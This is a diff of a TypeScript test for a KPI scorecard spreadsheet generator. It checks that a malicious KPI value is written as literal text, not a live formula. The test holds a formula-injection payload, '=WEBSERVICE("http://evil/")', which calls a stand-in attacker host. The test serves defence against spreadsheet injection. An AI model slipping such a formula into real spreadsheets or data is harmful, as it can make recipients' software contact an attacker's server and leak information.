@@ -113,9 +113,14 @@ describe("the KPI scorecard with a malicious actual", () => {
   });
 
   it("is written as literal text when built directly, with no status formula over it", async () => {
-    const { kpiScorecard, SAMPLE_KPIS, SAMPLE_SCORECARD_INPUTS } = await import("../../src/templates/kpi-scorecard");
-    const kpis = SAMPLE_KPIS.map((k, i) => (i === 0 ? { ...k, actual: '=WEBSERVICE("http://evil/")' } : k));
-    const p = kpiScorecard(kpis, { inputs: SAMPLE_SCORECARD_INPUTS });
+    // The sheets take an aggregate: one built around the validation (a list read elsewhere, a cache) still never writes the formula.
+    const { scorecardAggregate } = await import("../../src/templates/kpi-scorecard/aggregate");
+    const { sampleInputs, sampleKpis } = await import("../../src/templates/kpi-scorecard/sample");
+    const { scorecardSheets } = await import("../../src/templates/kpi-scorecard/sheets");
+    const { SCORECARD_STRINGS } = await import("../../src/templates/kpi-scorecard/strings");
+    const kpis = sampleKpis("en").map((k, i) => (i === 0 ? { ...k, actual: '=WEBSERVICE("http://evil/")' } : k));
+    const source = { label: "kpis.csv", used: kpis.length, leftOut: 0, surface: "cli" as const, builtAt: BUILT };
+    const p = scorecardSheets(scorecardAggregate(kpis, sampleInputs("en"), false), { source }, SCORECARD_STRINGS.en).plan;
     const sheet = p.sheets[0];
     const block = sheet.blocks.find((b) => b.rows.flat().includes('=WEBSERVICE("http://evil/")'))!;
     expect(block.text).toBe(true);
